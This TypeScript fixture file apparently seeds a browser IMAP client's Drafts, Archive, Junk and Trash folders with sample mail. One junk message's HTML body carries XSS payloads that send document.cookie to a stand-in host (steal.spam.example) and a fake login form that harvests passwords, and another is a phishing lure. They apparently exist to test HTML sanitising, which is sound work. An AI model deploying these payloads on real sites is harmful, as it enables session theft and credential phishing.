/** The special-use folders: a draft, older archived mail, spam with hostile HTML, and deleted mail. */
import { before } from "../clock.js";
import { FOLDERS } from "../folders.js";
import { textPart } from "../mime.js";
import { type Letter, messageId } from "./letter.js";
import { lars, me, mei, priya } from "./people.js";

function draft(now: Date): Letter {
  return {
    mailbox: FOLDERS.drafts,
    envelope: {
      from: me,
      to: [{ name: "Programme committee", address: "cfp@conf.example.org" }],
      subject: "Talk proposal: IMAP in the browser",
      date: before(now, 0, 6, 0),
      messageId: messageId("draft-talk"),
    },
    root: textPart(
      "Hello,\n\nI would like to propose a talk about running the IMAP protocol in the page.\n\n(TODO: abstract, bio)\n",
    ),
    flags: ["\\Draft", "\\Seen"],
  };
}

function archived(now: Date): Letter[] {
  const items = [
    [priya, "Quarterly report, final version", 24, "Attached the final version; thanks for the corrections."],
    [lars, "Welcome aboard!", 41, "Welcome to the team. Your accounts are ready; see you on Monday."],
    [mei, "Offsite venue shortlist", 33, "Three options: the lake house, the old mill, or the city loft."],
    [priya, "Re: On-call rotation", 28, "Swapped with you for the week of the release. Thanks!"],
  ] as const;
  return items.map(([from, subject, days, text], i) => ({
    mailbox: FOLDERS.archive,
    envelope: {
      from,
      to: [me],
      subject,
      date: before(now, days, i),
      messageId: messageId(`archive-${i + 1}`),
    },
    root: textPart(`Hi,\n\n${text}\n\n${from.name.split(" ")[0]}\n`),
    flags: i === 1 ? ["\\Seen", "\\Flagged"] : ["\\Seen"],
  }));
}

function spam(now: Date): Letter[] {
  const hostile = `<html><head><script>document.location="https://steal.spam.example/?c="+document.cookie</script></head>
<body onload="alert('pwned')">
<h1>Congratulations!!! You have WON €1.000.000</h1>
<img src="https://tracker.spam.example/pixel.gif?id=demo" width="1" height="1">
<img src="x" onerror="fetch('https://steal.spam.example/'+document.cookie)">
<p><a href="javascript:alert(1)">Claim your prize</a></p>
<form action="https://steal.spam.example/login" method="post">
<input name="user" placeholder="Username"><input name="password" type="password" placeholder="Password">
<button>Verify</button></form>
<iframe src="https://spam.example/frame"></iframe>
</body></html>
`;
  return [
    {
      mailbox: FOLDERS.junk,
      envelope: {
        from: { name: "Prize Department", address: "winner@spam.example" },
        to: [me],
        subject: "You have WON €1.000.000!!!",
        date: before(now, 1, 11, 0),
        messageId: messageId("spam-prize"),
      },
      root: textPart(hostile, { subtype: "html", encoding: "quoted-printable" }),
    },
    {
      mailbox: FOLDERS.junk,
      envelope: {
        from: { name: "Mailbox Admin", address: "admin@mailbox-support.example" },
        to: [me],
        subject: "Your mailbox is full: verify your account",
        date: before(now, 4, 2, 0),
        messageId: messageId("spam-phish"),
      },
      root: textPart(
        "Your mailbox is 99% full. Verify your password at https://mailbox-support.example/verify\n",
      ),
      flags: ["\\Seen"],
    },
  ];
}

function deleted(now: Date): Letter[] {
  return [
    {
      mailbox: FOLDERS.trash,
      envelope: {
        from: { name: "Calendar", address: "calendar-noreply@example.org" },
        to: [me],
        subject: "Reminder: dentist at 15:00",
        date: before(now, 7, 1, 0),
        messageId: messageId("trash-1"),
      },
      root: textPart("Reminder: dentist at 15:00 today.\n"),
      flags: ["\\Seen"],
    },
    {
      mailbox: FOLDERS.trash,
      envelope: {
        from: mei,
        to: [me],
        subject: "Wrong file, ignore",
        date: before(now, 3, 8, 0),
        messageId: messageId("trash-2"),
      },
      root: textPart("Sorry, wrong attachment. Please ignore the previous message.\n"),
      flags: ["\\Seen"],
    },
  ];
}

/** Drafts, Archive, Junk and Trash. */
export function housekeeping(now: Date): Letter[] {
  return [draft(now), ...archived(now), ...spam(now), ...deleted(now)];
}
